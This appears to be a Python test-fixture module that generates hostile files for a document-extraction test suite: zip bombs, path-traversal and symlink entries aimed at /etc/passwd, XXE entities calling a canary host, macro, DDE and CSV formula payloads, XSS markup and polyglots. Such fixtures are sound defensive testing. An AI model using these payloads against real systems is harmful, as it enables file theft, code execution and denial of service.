"""Files made to do harm, in classes, the same every time. `hostile(folder, canary)` gives {class: [(name, bytes)]}.

`canary` is host:port of a socket that nobody may connect to; it stands wherever a file can name an address. Names that
climb out of a folder hold `TOKEN`, so that a test can look for them afterwards.
"""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from unittest import mock

from PIL import Image

from tests.archive.extract.hostile_others import HACK, TOKEN, Files, Others, zeros
from tests.archive.extract.hostile_pdf import pdf_classes
from tests.archive.extract.office_samples import (
    W_NS,
    make_compound,
    make_docx,
    make_odf,
    make_pdf,
    make_raw_docx,
    make_xlsx,
)

SEED = 20261122
TEXT = "<w:p><w:r><w:t>chữ</w:t></w:r></w:p>"
_TIME = SimpleNamespace(time=lambda: 0.0, localtime=lambda *_: (2026, 11, 22, 0, 0, 0))


def hostile(folder: Path, canary: str) -> dict[str, Files]:
    with mock.patch.object(zipfile, "time", _TIME):
        maker = _Maker(folder, canary)
        classes = {name[6:]: make() for name, make in _methods(maker)} | pdf_classes(canary, maker.good["pdf"])
    return dict(sorted(classes.items()))


def _undated(content: bytes) -> bytes:
    """Without the instant a library wrote into it, at the same length."""
    content = re.sub(rb"D:\d{14}", b"D:" + b"20261122000000", content)
    return re.sub(rb"<[0-9A-F]{32}>", b"<" + b"0" * 32 + b">", content)


def _methods(maker: _Maker) -> Iterator[tuple[str, Callable[[], Files]]]:
    for name in sorted(dir(maker)):
        if name.startswith("class_"):
            yield name, getattr(maker, name)


def zipped(entries: dict[str, bytes], *, stored: bool = False) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return stream.getvalue()


class _Maker(Others):
    def __init__(self, folder: Path, canary: str) -> None:
        self.folder, self.canary, self.random = folder, canary, random.Random(SEED)
        self.url = f"http://{canary}/x"
        self.good = {"docx": make_docx(folder / "good.docx").read_bytes()}
        self.good["pdf"] = _undated(make_pdf(folder / "good.pdf").read_bytes())
        with zipfile.ZipFile(make_xlsx(folder / "good.xlsx")) as book:
            self.good["xlsx"] = zipped({name: book.read(name) for name in book.namelist() if "docProps" not in name})
        self.good["odt"] = make_odf(folder / "good.odt", "<text:p>chữ</text:p>").read_bytes()
        self.good["doc"] = make_compound(folder / "good.doc", ["WordDocument", "1Table"]).read_bytes()
        self.good["xls"] = make_compound(folder / "good.xls", ["Workbook"], first=b"\x09\x08\x10\0").read_bytes()
        self.good["zip"] = zipped({"a.txt": "một".encode(), "b.docx": self.good["docx"]})
        self.good["rtf"] = rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Times;}} xin chao\par}"
        self.good["eml"] = b"From: a@b.vn\r\nTo: c@d.vn\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nxin chao\r\n"
        for ending in ("png", "jpeg", "tiff", "gif", "webp"):
            stream = io.BytesIO()
            Image.frombytes("RGB", (120, 90), self.random.randbytes(120 * 90 * 3)).save(stream, ending.upper())
            self.good[ending] = stream.getvalue()

    def docx(self, body: str = TEXT, *, prolog: str = "", parts: dict[str, str] | None = None) -> bytes:
        return make_raw_docx(self.folder / "made.docx", body, prolog=prolog, parts=parts).read_bytes()

    def odf(self, body: str, **options: object) -> bytes:
        return make_odf(self.folder / "made.odt", body, **options).read_bytes()  # type: ignore[arg-type]

    # Containers

    def class_zip_bombs(self) -> Files:
        flat = zipped({"a.txt": zeros(60_000_000)})
        inner = zipped({f"{n}.txt": zeros(8_000_000) for n in range(4)})
        nested = inner
        for _ in range(4):
            nested = zipped({f"{n}.zip": nested for n in range(6)})
        with_parts = self.docx(parts={"word/styles.xml": " " * 50_000_000})
        many = zipped({f"{n}": b"" for n in range(2500)})
        return [
            ("phang.zip", flat), ("long.zip", nested), ("trong.zip", inner), ("phang.docx", with_parts),
            ("nhieu.zip", many), ("nhieu.docx", self.docx(parts={f"word/{n}.xml": "" for n in range(2100)})),
            ("bang.xlsx", self.docx() + flat), ("bom.odt", self.odf("<text:p/>", parts={"Pictures/a": "0" * 50_000_000})),
        ]  # fmt: skip

    def class_zip_overlapping(self) -> Files:
        """Many directory entries for the same packed bytes."""
        packed = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = packed.compress(zeros(5_000_000)) + packed.flush()
        crc = zlib.crc32(zeros(5_000_000))
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), 5_000_000, 1, 0) + b"a" + data
        made = []
        for count in (2, 50, 500, 1500):
            central = b"".join(
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    *(0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), 5_000_000, 5, 0, 0, 0, 0, 0, 0),
                )
                + b"%05d" % n
                for n in range(count)
            )
            end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)
            made.append((f"chong-{count}.zip", local + central + end))
        return made

    def class_zip_names(self) -> Files:
        names = [
            f"../{TOKEN}", f"../../../../../../tmp/{TOKEN}", f"/tmp/{TOKEN}", f"/{TOKEN}", f"..\\..\\{TOKEN}", f"C:\\{TOKEN}",
            f"a/../../{TOKEN}", f"./{TOKEN}/", f"\u202e{TOKEN}.exe", f"{TOKEN}\x00.txt", "x" * 5000 + TOKEN, "CON", "-rf",
            "request.json", "0000", "p1.webp", "a\nb", "..", ".", "~/.bashrc",
        ]  # fmt: skip
        made = []
        for number, name in enumerate(names):
            content = zipped({"a.txt": b"x", name.replace("\x00", "?"): b"evil", "z.txt": b"y"}, stored=True)
            made.append((f"ten-{number}.zip", content.replace(b"?", b"\0") if "\x00" in name else content))
        return [*made, ("ten.docx", self.docx(parts={name: "evil" for name in names if "\x00" not in name}))]

    def class_zip_links(self) -> Files:
        made = []
        for number, target in enumerate(("/etc/passwd", f"../{TOKEN}", "/dev/zero", "a.txt", "/proc/self/environ")):
            stream = io.BytesIO()
            with zipfile.ZipFile(stream, "w") as file:
                entry = zipfile.ZipInfo("a.txt")
                entry.create_system, entry.external_attr = 3, 0o120777 << 16
                file.writestr(entry, target)
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore")
                    file.writestr("a.txt", "evil")
                pipe = zipfile.ZipInfo("pipe")
                pipe.create_system, pipe.external_attr = 3, 0o010777 << 16
                file.writestr(pipe, "")
            made.append((f"lien-ket-{number}.zip", stream.getvalue()))
        return made

    def class_zip_lies(self) -> Files:
        made = []
        for name, old, new in (
            ("kich-thuoc", struct.pack("<I", 300_000), struct.pack("<I", 10)),
            ("lon", struct.pack("<I", 300_000), struct.pack("<I", 0xFFFFFFF0)),
        ):
            made.append((f"{name}.zip", zipped({"a.txt": b"ab" * 150_000}).replace(old, new)))
            made.append((f"{name}.docx", self.docx(parts={"word/header1.xml": "x" * 300_000}).replace(old, new)))
        for method in (1, 6, 9, 12, 14, 93, 99):
            content = bytearray(self.good["zip"])
            struct.pack_into("<H", content, 8, method)
            struct.pack_into("<H", content, content.index(b"PK\x01\x02") + 10, method)
            made.append((f"cach-nen-{method}.zip", bytes(content)))
        return made

    # XML

    def class_xml_entities(self) -> Files:
        bomb = '<!DOCTYPE b [<!ENTITY a0 "aaaaaaaaaa">' + "".join(
            f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
        )
        quadratic = f'<!DOCTYPE b [<!ENTITY a "{"a" * 100_000}">]>'
        loop = '<!DOCTYPE b [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
        made = []
        for name, prolog, use in (
            ("ty", bomb + "]>", "&a11;"), ("vuong", quadratic, "&a;" * 2000), ("vong", loop, "&a;"),
        ):  # fmt: skip
            made.append((f"{name}.docx", self.docx(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>", prolog=prolog)))
            made.append((f"{name}.odt", self.odf("<text:p/>", parts={"styles.xml": f"{prolog}<a>{use}</a>"})))
            made.append((f"{name}.xlsx", self._sheet(prolog, use)))
            made.append(
                (f"{name}.svg", f'{prolog}<svg xmlns="http://www.w3.org/2000/svg"><text>{use}</text></svg>'.encode())
            )
            made.append((f"{name}.xml", f'<?xml version="1.0"?>{prolog}<b>{use}</b>'.encode()))
        return made

    def _sheet(self, prolog: str, text: str) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(self.good["xlsx"])) as old, zipfile.ZipFile(stream, "w") as new:
            for entry in old.infolist():
                content = old.read(entry)
                if entry.filename == "xl/sharedStrings.xml":
                    content = f"{prolog}<sst><si><t>{text}</t></si></sst>".encode()
                new.writestr(entry.filename, content)
        return stream.getvalue()

    def class_xml_outside(self) -> Files:
        made = []
        for number, target in enumerate(
            (
                self.url,
                "file:///etc/passwd",
                f"ftp://{self.canary}/x",
                "php://filter/x",
                f"//{self.canary}/x",
                "jar:x!/y",
            )
        ):
            prolog = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}"><!ENTITY % p SYSTEM "{target}">%p;]>'
            made.append((f"ngoai-{number}.docx", self.docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog=prolog)))
            made.append((f"ngoai-{number}.odt", self.odf("<text:p/>", parts={"styles.xml": f"{prolog}<a>&x;</a>"})))
            made.append((f"ngoai-{number}.xlsx", self._sheet(prolog, "&x;")))
            made.append((f"ngoai-{number}.svg", f"{prolog}<svg>&x;</svg>".encode()))
        return made

    def class_xml_depth(self) -> Files:
        deep = "<w:p>" + "<w:r>" * 20_000 + "</w:r>" * 20_000 + "</w:p>"
        wide = "<w:p/>" * 300_000
        attributes = "<w:p " + " ".join(f'w:a{n}="1"' for n in range(20_000)) + "/>"
        tables = "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000
        spans = "<text:p>" + "<text:span>" * 20_000 + "</text:span>" * 20_000 + "</text:p>"
        repeated = '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
        spaces = '<text:p>a<text:s text:c="2000000000"/>b</text:p>'
        return [
            ("sau.docx", self.docx(deep)), ("rong.docx", self.docx(wide)), ("thuoc-tinh.docx", self.docx(attributes)),
            ("bang.docx", self.docx(tables)), ("sau.odt", self.odf(spans)), ("lap.ods", self.odf(repeated, kind="spreadsheet")),
            ("cach.odt", self.odf(spaces)), ("lap.odt", self.odf(repeated)),
        ]  # fmt: skip

    # What would fetch or run something

    def class_office_links(self) -> Files:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        space = "http://schemas.openxmlformats.org/package/2006/relationships"
        made = []
        for number, (name, target) in enumerate(
            (name, target)
            for name in ("attachedTemplate", "image", "oleObject", "frame", "hyperlink")
            for target in (
                self.url,
                f"file://{self.canary}/share/x",
                f"\\\\{self.canary}\\share\\x.dotm",
                f"mhtml:{self.url}",
            )
        ):
            relation = (
                f'<Relationships xmlns="{space}"><Relationship Id="r1" Type="{kind}/{name}" Target="{target}" '
                'TargetMode="External"/></Relationships>'
            )
            settings = f'<w:settings {W_NS} xmlns:r="{kind}"><w:attachedTemplate r:id="r1"/></w:settings>'
            stream = io.BytesIO(self.docx())
            with zipfile.ZipFile(stream, "a") as file, warnings.catch_warnings():
                warnings.simplefilter("ignore")
                file.writestr("word/settings.xml", settings)
                file.writestr("word/_rels/settings.xml.rels", relation)
                file.writestr("word/_rels/document.xml.rels", relation)
            made.append((f"mau-{number}.docx", stream.getvalue()))
        image = (
            '<text:p><draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'xlink:href="{self.url}.png" xlink:actuate="onLoad" xlink:type="simple"/></draw:frame></text:p>'
        )
        section = (
            '<text:section text:name="s"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'xlink:href="{self.url}.odt"/></text:section>'
        )
        return [*made, ("anh.odt", self.odf(image)), ("phan.odt", self.odf(section))]

    def class_macros(self) -> Files:
        basic = {"Basic/Standard/M.xml": 'Sub AutoOpen\nShell("touch /tmp/' + TOKEN + '")\nEnd Sub'}
        events = (
            '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:x" '
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.A?language=Basic&amp;location=document" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"/></office:event-listeners></office:scripts>'
        )
        vba = {"word/vbaProject.bin": "\0VBA", "word/vbaData.xml": "<x/>"}
        return [
            ("macro.docm", self.docx(parts=vba)), ("macro.docx", self.docx(parts=vba)), ("macro.odt", self.odf(events, parts=basic)),
            ("macro.doc", make_compound(self.folder / "m.doc", ["WordDocument", "Macros", "VBA"]).read_bytes()),
            ("macro.xls", make_compound(self.folder / "m.xls", ["Workbook", "_VBA_PROJECT"]).read_bytes()),
        ]  # fmt: skip

    def class_formulas(self) -> Files:
        lines = [
            "=cmd|'/C calc'!A0",
            "@SUM(1)",
            "+1+1",
            f'=WEBSERVICE("{self.url}")',
            f'=HYPERLINK("{self.url}")',
            "-2+3",
        ]
        text = ("\n".join(f"{line};2;3" for line in lines)).encode()
        cells = (
            "".join(
                f'<table:table-row><table:table-cell table:formula="of:{line}"/></table:table-row>'
                for line in lines[3:5]
            )
            .replace('("', "(&quot;")
            .replace('")"', '&quot;)"')
        )
        return [
            ("congthuc.csv", text), ("congthuc.tsv", text.replace(b";", b"\t")), ("congthuc.txt", text),
            ("congthuc.ods", self.odf(f"<table:table>{cells}</table:table>", kind="spreadsheet")),
            ("dde.docx", self.docx('<w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x &quot;/k calc&quot;"/></w:r></w:p>')),
        ]  # fmt: skip

    def class_scripts(self) -> Files:
        picture = f"<img src=x onerror='window.__hacked=1'><img src='{self.url}'>"
        return [
            ("a.html", f"<html>{HACK}{picture}</html>".encode()), ("a.htm", HACK.encode()), ("a.txt", HACK.encode()),
            ("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hacked=1">{HACK}</svg>'.encode()),
            ("a.xml", b'<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>window.__hacked=1</h:script></x>'),
            ("a.xhtml", f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{HACK}</html>'.encode()),
            ("a.md", f"[x](javascript:alert(1)) {HACK}".encode()), ("a.csv", f"{HACK};{picture}".encode()),
            ("xslt.xml", f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{self.url}"?><a/>'.encode()),
            ("meta.html", f'<html><meta http-equiv=refresh content="0;url={self.url}"><base href="{self.url}"></html>'.encode()),
            ("a.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\nSubject: x\r\n\r\n" + HACK.encode()),
            ("{{7*7}}.txt", b"{{7*7}} ${7*7} <%= 7*7 %>"),
        ]  # fmt: skip

    def class_polyglots(self) -> Files:
        gif = b"GIF89a/*" + self.good["gif"][8:] + b"*/=1;window.__hacked=1;//"
        page = b"<html>" + HACK.encode() + b"<!--"
        return [
            ("pdf-zip.pdf", self.good["pdf"] + self.good["zip"]), ("pdf-zip.zip", self.good["pdf"] + self.good["zip"]),
            ("gif.js.gif", gif), ("gif.html", gif), ("html-pdf.pdf", page + self.good["pdf"]),
            ("html-pdf.html", page + self.good["pdf"]), ("jpeg-zip.jpg", self.good["jpeg"] + self.good["zip"]),
            ("png-html.png", self.good["png"] + HACK.encode()), ("docx-html.docx", page + self.good["docx"]),
            ("rtf-html.rtf", b"{\\rtf1 " + HACK.encode() + b"}"), ("webp.html", self.good["webp"] + HACK.encode()),
            ("tiff-pdf.tiff", self.good["tiff"] + self.good["pdf"]), ("zip-docx.zip", self.good["docx"]),
        ]  # fmt: skip

    # Broken

    def class_cut(self) -> Files:
        made = []
        for ending, content in sorted(self.good.items()):
            for part in (0.02, 0.35, 0.8):
                made.append((f"cat-{int(part * 100)}.{ending}", content[: max(1, int(len(content) * part))]))
        return made

    def class_flipped(self) -> Files:
        made = []
        for ending, content in sorted(self.good.items()):
            for turn in range(2):
                broken = bytearray(content)
                for _ in range(max(3, len(broken) // 400)):
                    broken[self.random.randrange(len(broken))] = self.random.randrange(256)
                made.append((f"sai-{turn}.{ending}", bytes(broken)))
        return made

    def class_wrong_names(self) -> Files:
        endings = sorted(self.good)
        return [(f"ten-{ending}.{endings[n - 1]}", self.good[ending]) for n, ending in enumerate(endings)]

    def class_magic_only(self) -> Files:
        starts = {
            "pdf": b"%PDF-1.7\n", "docx": b"PK\x03\x04", "zip": b"PK\x05\x06", "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "tif": b"II*\0", "gif": b"GIF89a", "webp": b"RIFF\xff\0\0\0WEBPVP8X",
            "rtf": b"{\\rtf1", "heic": b"\0\0\0\x18ftypheic", "html": b"<html>", "eml": b"From: a\r\nTo: b\r\nSubject: c\r\n",
        }  # fmt: skip
        return [(f"dau.{ending}", start + self.random.randbytes(400)) for ending, start in starts.items()]

    def class_encrypted(self) -> Files:
        made = []
        for ending in ("zip", "docx", "xlsx", "odt"):
            content = bytearray(self.good[ending])
            place = content.find(b"PK\x01\x02")
            while place >= 0:
                content[place + 8] |= 1
                place = content.find(b"PK\x01\x02", place + 4)
            made.append((f"khoa.{ending}", bytes(content)))
        locked = make_compound(self.folder / "locked.doc", ["EncryptedPackage", "EncryptionInfo"]).read_bytes()
        return [*made, ("khoa-ole.docx", locked), ("khoa-ole.xls", locked)]

    # Pictures, sounds, others

    def class_tiff_loops(self) -> Files:
        def tiff(*entries: tuple[int, int, int, int], after: int) -> bytes:
            head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
            return (
                head
                + b"".join(struct.pack("<HHII", *entry) for entry in entries)
                + struct.pack("<I", after)
                + zeros(64)
            )

        size = ((256, 4, 1, 10), (257, 4, 1, 10), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 100))
        huge = ((256, 4, 1, 2**31), (257, 4, 1, 2**31), (259, 3, 1, 1), (273, 4, 2**30, 8))
        return [
            ("vong.tif", tiff(*size, after=8)), ("lon.tif", tiff(*huge, after=0)), ("xa.tif", tiff(*size, after=2**31)),
            ("trong.tif", tiff(after=8)), ("vong.tiff", tiff(*size[:2], after=8)),
            ("nen.tif", tiff(*size[:2], (259, 3, 1, 5), *size[3:], after=0)),
        ]  # fmt: skip
